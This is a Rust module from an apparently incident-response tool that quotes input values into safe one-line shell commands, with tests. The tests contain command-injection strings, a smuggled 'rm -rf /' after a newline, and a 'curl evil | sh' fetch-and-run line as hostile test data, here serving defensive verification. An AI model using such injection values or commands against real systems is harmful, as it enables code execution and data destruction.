//! Commands a responder pastes into a privileged shell at 3 a.m. Programs, subcommands and
//! flags are written by trustpath; every value that comes from an input (a role name, a
//! workflow file, a secret's name) goes through [`quote`], and every command is one line
//! with no control character, so no name can end the command, start another, or expand.

/// Quotes a value for a POSIX shell: bare when it is made only of characters no shell
/// treats specially, else in single quotes (`'` written `'\''`). A value holding a
/// control character (a newline in a hostile name) is written `$'…'` with the character
/// escaped, which bash, zsh and POSIX.1-2024 shells read back to the same bytes, so
/// the command stays on one line and still names exactly the value.
pub fn quote(s: &str) -> String {
    // Bare only when no shell reads anything into it: `=x` is a path lookup in zsh.
    if !s.is_empty()
        && !s.starts_with('=')
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./:@+=,".contains(&b))
    {
        return s.to_string();
    }
    if !s.chars().any(crate::report::is_unsafe) {
        return format!("'{}'", s.replace('\'', "'\\''"));
    }
    let mut out = String::from("$'");
    for c in s.chars() {
        match c {
            '\\' => out.push_str("\\\\"),
            '\'' => out.push_str("\\'"),
            '\n' => out.push_str("\\n"),
            '\t' => out.push_str("\\t"),
            '\r' => out.push_str("\\r"),
            c if crate::report::is_unsafe(c) => {
                // Its UTF-8 bytes as \xHH: the same bytes back whatever the locale.
                let mut bytes = [0; 4];
                for b in c.encode_utf8(&mut bytes).bytes() {
                    out.push_str(&format!("\\x{b:02x}"));
                }
            }
            c => out.push(c),
        }
    }
    out.push('\'');
    out
}

/// One piece of an argument: a value, which [`quote`] renders, or text trustpath itself
/// wrote and shows as it is (a `<PLACEHOLDER>`, a `"$(date …)"` the shell must expand).
/// `Own` takes only `&'static str`, so nothing read from an input can be one.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Piece {
    Value(String),
    Own(&'static str),
}

impl From<&str> for Piece {
    fn from(value: &str) -> Self {
        Piece::Value(value.to_string())
    }
}

impl From<String> for Piece {
    fn from(value: String) -> Self {
        Piece::Value(value)
    }
}

impl From<&String> for Piece {
    fn from(value: &String) -> Self {
        Piece::Value(value.clone())
    }
}

/// A placeholder the responder fills in (`<KEY_ID>`: capitals, digits and `_` in angle
/// brackets). It stays bare, so a command pasted unfilled cannot run: the shell reads
/// `<KEY_ID>` as input from a file that does not exist and stops before running anything.
pub fn hole(name: &'static str) -> Piece {
    debug_assert!(is_placeholder(name), "{name} is not a <PLACEHOLDER>");
    Piece::Own(name)
}

/// Whether `s` is written like one of trustpath's own placeholders.
pub fn is_placeholder(s: &str) -> bool {
    s.strip_prefix('<')
        .and_then(|s| s.strip_suffix('>'))
        .is_some_and(|inner| {
            !inner.is_empty()
                && inner
                    .bytes()
                    .all(|b| b.is_ascii_uppercase() || b.is_ascii_digit() || b == b'_')
        })
}

/// A command as its argument vector, rendered for a shell on one line: every argument
/// through [`quote`], a placeholder bare, then an optional `> FILE`, commands it feeds
/// (`|`) or that follow it (`&&`), and a trailing `# note`. Commands are built only this
/// way, so no value from an input ever reaches a shell except as one quoted word.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Cmd {
    argv: Vec<Vec<Piece>>,
    stdout: Option<Piece>,
    then: Vec<(&'static str, Cmd)>,
    note: Option<String>,
}

impl Cmd {
    pub fn new(program: &'static str) -> Cmd {
        Cmd {
            argv: vec![vec![Piece::Own(program)]],
            stdout: None,
            then: Vec::new(),
            note: None,
        }
    }

    /// One argument.
    pub fn arg(mut self, arg: impl Into<Piece>) -> Cmd {
        self.argv.push(vec![arg.into()]);
        self
    }

    /// Arguments, one each.
    pub fn args<I>(self, args: I) -> Cmd
    where
        I: IntoIterator,
        I::Item: Into<Piece>,
    {
        args.into_iter().fold(self, Cmd::arg)
    }

    /// One argument made of pieces side by side (`--role=` and a value, an API path with a
    /// placeholder segment).
    pub fn word(mut self, pieces: impl IntoIterator<Item = Piece>) -> Cmd {
        self.argv.push(pieces.into_iter().collect());
        self
    }

    /// `--flag=VALUE` as one argument.
    pub fn eq(self, flag: &'static str, value: impl Into<Piece>) -> Cmd {
        self.word([Piece::Own(flag), Piece::Own("="), value.into()])
    }

    /// Its output written to `file` (`> FILE`).
    pub fn to_file(mut self, file: impl Into<Piece>) -> Cmd {
        self.stdout = Some(file.into());
        self
    }

    /// `| next`: its output is `next`'s input.
    pub fn pipe(mut self, next: Cmd) -> Cmd {
        self.then.push(("|", next));
        self
    }

    /// `&& next`: `next` runs if it succeeds.
    pub fn and(mut self, next: Cmd) -> Cmd {
        self.then.push(("&&", next));
        self
    }

    /// A `# note` after the command: what to look for in its output, what to do next.
    pub fn note(mut self, text: impl AsRef<str>) -> Cmd {
        self.note = Some(crate::report::clean(text.as_ref()).into_owned());
        self
    }

    /// The words the program receives: what the rendered line gives back once a shell
    /// has read it (placeholders as written).
    pub fn argv(&self) -> Vec<String> {
        self.argv
            .iter()
            .map(|word| {
                word.iter()
                    .map(|p| match p {
                        Piece::Value(v) => v.as_str(),
                        Piece::Own(o) => o,
                    })
                    .collect()
            })
            .collect()
    }

    pub fn render(&self) -> String {
        let mut out = String::new();
        self.render_into(&mut out);
        if let Some(note) = &self.note {
            out.push_str("  # ");
            out.push_str(note);
        }
        out
    }

    fn render_into(&self, out: &mut String) {
        for (i, word) in self.argv.iter().enumerate() {
            if i > 0 {
                out.push(' ');
            }
            word.iter().for_each(|p| render_piece(p, out));
        }
        if let Some(file) = &self.stdout {
            out.push_str(" > ");
            render_piece(file, out);
        }
        for (op, next) in &self.then {
            out.push(' ');
            out.push_str(op);
            out.push(' ');
            next.render_into(out);
        }
    }
}

fn render_piece(piece: &Piece, out: &mut String) {
    match piece {
        Piece::Value(v) => out.push_str(&quote(v)),
        Piece::Own(o) => out.push_str(o),
    }
}

impl std::fmt::Display for Cmd {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(&self.render())
    }
}

impl From<Cmd> for String {
    fn from(cmd: Cmd) -> String {
        cmd.render()
    }
}

/// A key with a part (between `/`, `:` or `@`) that starts with `-`, or with a NUL: a
/// command could take the part for an option (`kubectl delete secret --all`), and no
/// shell can pass a NUL. Commands naming such a node are not offered to run.
pub fn unsafe_name(key: &str) -> bool {
    key.contains('\0')
        || key
            .split(['/', ':', '@', ' '])
            .any(|part| part.starts_with('-'))
}

/// A `# comment` for the end of a command or a line of its own: text from an input
/// stays inside it (a newline would end the comment and start a command).
pub fn comment(text: &str) -> String {
    format!("# {}", crate::report::clean(text))
}

/// The last guard on every command printed (a native graph's `revoke.commands` come from
/// a file anyone may have written): one line with no control character. A command that
/// holds one (a second line smuggled in) is shown as a comment, escaped, never as
/// something to run.
pub fn one_line(command: &str) -> String {
    if command.chars().any(char::is_control) {
        format!(
            "# NOT RUN, it holds control characters: {}",
            crate::report::clean(command)
        )
    } else {
        command.to_string()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn values_are_bare_quoted_or_escaped() {
        assert_eq!(quote("deploy.yml"), "deploy.yml");
        assert_eq!(quote("arn:aws:iam::1:role/x"), "arn:aws:iam::1:role/x");
        assert_eq!(quote(""), "''");
        assert_eq!(quote("a b"), "'a b'");
        assert_eq!(
            quote("d$(touch${IFS}PWNED);.yml"),
            "'d$(touch${IFS}PWNED);.yml'"
        );
        assert_eq!(quote("it's"), "'it'\\''s'");
        assert_eq!(quote("a\nb"), "$'a\\nb'");
        assert_eq!(quote("x'\n\\"), "$'x\\'\\n\\\\'");
        assert_eq!(quote("bell\x07"), "$'bell\\x07'");
        assert_eq!(quote("=admin"), "'=admin'");
        assert_eq!(quote("c1\u{85}"), "$'c1\\xc2\\x85'");
        assert_eq!(quote("rtl\u{202E}"), "$'rtl\\xe2\\x80\\xae'");
        assert!(!quote("a\nb\r\x1b").chars().any(char::is_control));
    }

    #[test]
    fn quoted_values_read_back_the_same_in_bash() {
        if std::process::Command::new("bash")
            .arg("--version")
            .output()
            .is_err()
        {
            return;
        }
        for value in [
            "plain",
            "two words",
            "d$(echo>PWNED);.yml",
            "`echo>PWNED`",
            "it's; echo>PWNED",
            "line\necho>PWNED",
            "tab\there\r\x1b[31m",
            "c1\u{85}del\x7f rtl\u{202E}",
            "back\\slash'quote\"",
            "é ✓ 鍵",
        ] {
            let script = format!("printf %s {}", quote(value));
            let out = std::process::Command::new("bash")
                .args(["--norc", "-c", &script])
                .output()
                .expect("bash runs");
            assert_eq!(String::from_utf8_lossy(&out.stdout), value, "{script}");
        }
    }

    #[test]
    fn commands_render_their_argument_vector() {
        let cmd = Cmd::new("gh")
            .args(["workflow", "disable", "d$(touch${IFS}PWNED);.yml", "-R"])
            .arg("acme/web")
            .note("then\nrm -rf /");
        assert_eq!(
            cmd.render(),
            "gh workflow disable 'd$(touch${IFS}PWNED);.yml' -R acme/web  # then\\u{a}rm -rf /"
        );
        let path = Cmd::new("gh")
            .args(["api", "-X", "DELETE"])
            .word(["/repos/a b/collaborators/".into(), hole("<GITHUB_LOGIN>")]);
        assert_eq!(
            path.render(),
            "gh api -X DELETE '/repos/a b/collaborators/'<GITHUB_LOGIN>"
        );
        let chained = Cmd::new("jq")
            .args([".x", "f 1"])
            .to_file("f 1.new")
            .and(Cmd::new("mv").args(["f 1.new", "f 1"]));
        assert_eq!(
            chained.render(),
            "jq .x 'f 1' > 'f 1.new' && mv 'f 1.new' 'f 1'"
        );
        assert_eq!(
            Cmd::new("gcloud").eq("--member", "user:a'b").render(),
            "gcloud --member='user:a'\\''b'"
        );
    }

    /// What bash hands the program is exactly the vector built, whatever the values hold.
    #[test]
    fn bash_reads_back_the_argument_vector() {
        if std::process::Command::new("bash")
            .arg("--version")
            .output()
            .is_err()
        {
            return;
        }
        let hostile = [
            "plain",
            "",
            "two words",
            "$(echo>PWNED)",
            "`echo>PWNED`;|&<>",
            "line\necho>PWNED",
            "=x",
            "it's \"q\" \\",
            "\x1b[31m\u{85}\u{202E}é",
            "*?[a]{b,c}~#!",
        ];
        for value in hostile {
            let cmd = Cmd::new("printf")
                .arg("%s\\0")
                .arg(value)
                .word(["--x=".into(), value.into()]);
            let out = std::process::Command::new("bash")
                .args(["--norc", "-c", &cmd.render()])
                .current_dir(std::env::temp_dir())
                .output()
                .expect("bash runs");
            let got: Vec<&[u8]> = out.stdout.split(|b| *b == 0).collect();
            let want = cmd.argv();
            assert_eq!(got.len(), 3, "{}", cmd.render());
            assert_eq!(got[0], want[2].as_bytes(), "{}", cmd.render());
            assert_eq!(got[1], want[3].as_bytes(), "{}", cmd.render());
        }
    }

    #[test]
    fn option_like_and_nul_names_are_unsafe() {
        assert!(unsafe_name("k8s:prod:secret:ns/--all"));
        assert!(unsafe_name("arn:aws:iam::1:user/-x"));
        assert!(unsafe_name("a\0b"));
        assert!(!unsafe_name("arn:aws:iam::1:role/deploy-x"));
        assert!(!unsafe_name("github:action:tj-style/changed-files@v45"));
    }

    #[test]
    fn comments_and_input_commands_stay_on_one_line() {
        assert_eq!(
            comment("uses: x@v1\nrm -rf /"),
            "# uses: x@v1\\u{a}rm -rf /"
        );
        assert_eq!(
            one_line("gh secret list\ncurl evil | sh"),
            "# NOT RUN, it holds control characters: gh secret list\\u{a}curl evil | sh"
        );
        assert_eq!(one_line("gh secret list"), "gh secret list");
    }
}
